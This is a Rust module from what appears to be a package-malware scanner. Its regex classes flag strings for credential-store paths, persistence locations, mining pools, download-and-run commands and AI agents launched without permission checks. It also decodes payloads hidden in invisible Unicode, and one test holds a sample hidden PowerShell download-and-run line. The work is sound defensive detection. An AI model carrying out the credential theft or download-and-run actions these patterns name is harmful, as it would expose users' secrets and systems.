//! What a string says about the code holding it, once folded and decoded: a credential store's
//! path, a persistence location, a miner's pool, a download-and-run command line.

use std::sync::LazyLock;

use regex::RegexSet;

use super::Behaviour;

/// One class of meaningful strings.
struct Class {
    behaviour: Behaviour,
    what: &'static str,
    pattern: &'static str,
}

const CLASSES: &[Class] = &[
    Class {
        behaviour: Behaviour::ReadsCredentials,
        what: "reads SSH private keys",
        pattern: r"\.ssh(/|\\)(id_(rsa|ed25519|ecdsa|dsa)\b|\*|$)|\.ssh['\x22]?\s*$",
    },
    Class {
        behaviour: Behaviour::ReadsCredentials,
        what: "reads cloud CLI credentials",
        pattern: r"\.aws(/|\\)credentials|\.config(/|\\)gcloud|\.azure(/|\\)|\.kube(/|\\)config|\.docker(/|\\)config\.json",
    },
    Class {
        behaviour: Behaviour::ReadsCredentials,
        what: "reads package-registry tokens (.npmrc/.pypirc)",
        pattern: r"\.npmrc\b|\.pypirc\b",
    },
    Class {
        behaviour: Behaviour::ReadsCredentials,
        // HTTP clients read .netrc for the user's own logins (requests does); a publishing
        // worm wants registry tokens, so this class alone never makes one.
        what: "reads stored logins (.netrc/.git-credentials)",
        pattern: r"\.git-credentials\b|\.netrc\b",
    },
    Class {
        behaviour: Behaviour::ReadsCredentials,
        what: "reads browser credential stores",
        pattern: r"(?i)Login Data|Local State|cookies\.sqlite|logins\.json|key4\.db|\.mozilla(/|\\)firefox|Google(/|\\)Chrome(/|\\)User Data|Library(/|\\)Keychains",
    },
    Class {
        behaviour: Behaviour::ReadsCredentials,
        what: "reads chat-client tokens",
        pattern: r"(?i)discord(canary|ptb)?(/|\\)Local Storage|Telegram Desktop(/|\\)tdata|Local Storage(/|\\)leveldb",
    },
    Class {
        behaviour: Behaviour::ReadsCredentials,
        what: "reads cryptocurrency wallets",
        pattern: r"(?i)wallet\.dat|Electrum(/|\\)wallets|Exodus(/|\\)exodus\.wallet|\.bitcoin(/|\\)|nkbihfbeogaeaoehlefnkodbefgpgknn|Solana(/|\\)id\.json|\.config(/|\\)solana",
    },
    Class {
        behaviour: Behaviour::ReadsCredentials,
        what: "reads a GitHub token (gh auth token)",
        pattern: r"\bgh\s+auth\s+token\b",
    },
    Class {
        behaviour: Behaviour::Persists,
        what: "writes a shell start-up file",
        pattern: r"(^|[/\\~])\.(bashrc|bash_profile|zshrc|zprofile|profile)$",
    },
    Class {
        behaviour: Behaviour::Persists,
        what: "installs a scheduled task or service",
        pattern: r"(?i)\bcrontab\b|/etc/cron|/var/spool/cron|systemd(/|\\)(system|user)\b|\.config/systemd|LaunchAgents|LaunchDaemons|schtasks(\.exe)?\s+/create|\.config/autostart",
    },
    Class {
        behaviour: Behaviour::Persists,
        what: "writes a Windows autostart entry",
        pattern: r"(?i)CurrentVersion\\+Run(Once)?\b|Start Menu\\+Programs\\+Startup|\\Startup\\",
    },
    Class {
        behaviour: Behaviour::Mines,
        what: "names a mining pool or miner",
        pattern: r"(?i)stratum\+(tcp|ssl|tls)://|\bxmrig\b|--donate-level|\bcryptonight\b|moneroocean|supportxmr|nanopool\.org|c3pool|minexmr|2miners\.com|--coin[= ]+(monero|xmr)\b|\bnbminer\b|\bt-rex\b.*-a\s",
    },
    Class {
        behaviour: Behaviour::DownloadRunCommand,
        what: "a hidden PowerShell download-and-run",
        // `-ExecutionPolicy Bypass -File` of the package's own script is how build tools run
        // PowerShell (meson does); hidden windows, encoded commands and downloads are not.
        pattern: r"(?i)(powershell|pwsh)[^\n]{0,200}(-w(indowstyle)?\s+hidden|-enc(odedcommand)?\s|iex\b|invoke-expression|downloadstring|downloadfile|iwr\s|invoke-webrequest)|(iwr|irm|invoke-webrequest|invoke-restmethod)\s[^\n|]{0,200}\|\s*iex",
    },
    Class {
        behaviour: Behaviour::DownloadRunCommand,
        what: "a shell download-and-run",
        pattern: r"(curl|wget)\s[^\n|;]{0,200}(\|\s*(sudo\s+)?(ba|z|da)?sh\b|(&&|;)\s*chmod\s+(\+x|[0-7]{3,4})\b)",
    },
    Class {
        behaviour: Behaviour::StartsAgent,
        what: "starts an AI coding agent without permission checks",
        pattern: r"--dangerously-skip-permissions|--dangerously-bypass-approvals-and-sandbox|--trust-all-tools|\bgemini\b[^\n]{0,80}(--yolo|-y\b)|--allow-all-tools|\bcodex\b[^\n]{0,80}--full-auto",
    },
    Class {
        behaviour: Behaviour::Publishes,
        what: "publishes packages",
        pattern: r"\bnpm\s+publish\b|\btwine\s+upload\b|\.github/workflows/[\w.-]+\.ya?ml",
    },
];

/// All classes as one set: one pass over a string says which of them it belongs to.
static COMPILED: LazyLock<Option<RegexSet>> =
    LazyLock::new(|| RegexSet::new(CLASSES.iter().map(|c| c.pattern)).ok());

/// The classes a string belongs to: what its presence means and how to say it.
pub fn classify(text: &str) -> Vec<(Behaviour, &'static str)> {
    if text.len() < 4 {
        return Vec::new();
    }
    let Some(set) = COMPILED.as_ref() else {
        return Vec::new();
    };
    set.matches(text)
        .into_iter()
        .filter_map(|i| CLASSES.get(i))
        .map(|c| (c.behaviour, c.what))
        .collect()
}

/// Whether the string names the cloud instance metadata service (where instance credentials
/// are served).
pub fn is_metadata_endpoint(text: &str) -> bool {
    text.contains("169.254.169.254")
        || text.contains("metadata.google.internal")
        || text.contains("100.100.100.200")
        || text.contains("[fd00:ec2::254]")
}

/// The number of invisible code points that can carry data (variation selectors, Unicode tag
/// characters) in `text`.
pub fn invisible_count(text: &str) -> usize {
    text.chars()
        .filter(|c| matches!(*c as u32, 0xFE00..=0xFE0F | 0xE0100..=0xE01EF | 0xE0000..=0xE007F))
        .count()
}

/// The bytes hidden in variation selectors (U+FE00–FE0F carry 0–15, U+E0100–E01EF 16–255) and
/// tag characters (U+E0020–E007E carry ASCII), as the published decoders read them.
pub fn invisible_payload(text: &str) -> Vec<u8> {
    text.chars()
        .filter_map(|c| match c as u32 {
            v @ 0xFE00..=0xFE0F => Some((v - 0xFE00) as u8),
            v @ 0xE0100..=0xE01EF => Some((v - 0xE0100 + 16) as u8),
            v @ 0xE0020..=0xE007E => Some((v - 0xE0000) as u8),
            _ => None,
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn classes_compile_and_classify() {
        assert_eq!(
            COMPILED.as_ref().map(RegexSet::len),
            Some(CLASSES.len()),
            "every class pattern compiles"
        );
        assert!(
            classify("/home/u/.ssh/id_rsa")
                .iter()
                .any(|(b, _)| *b == Behaviour::ReadsCredentials)
        );
        assert!(
            classify("powershell -w hidden -ep bypass iex (iwr http://x)")
                .iter()
                .any(|(b, _)| *b == Behaviour::DownloadRunCommand)
        );
        assert!(classify("ssh connection helper").is_empty());
        let hidden: String = "hi"
            .bytes()
            .map(|b| char::from_u32(0xE0000 + b as u32).unwrap_or(' '))
            .collect();
        assert_eq!(invisible_payload(&hidden), b"hi");
    }
}
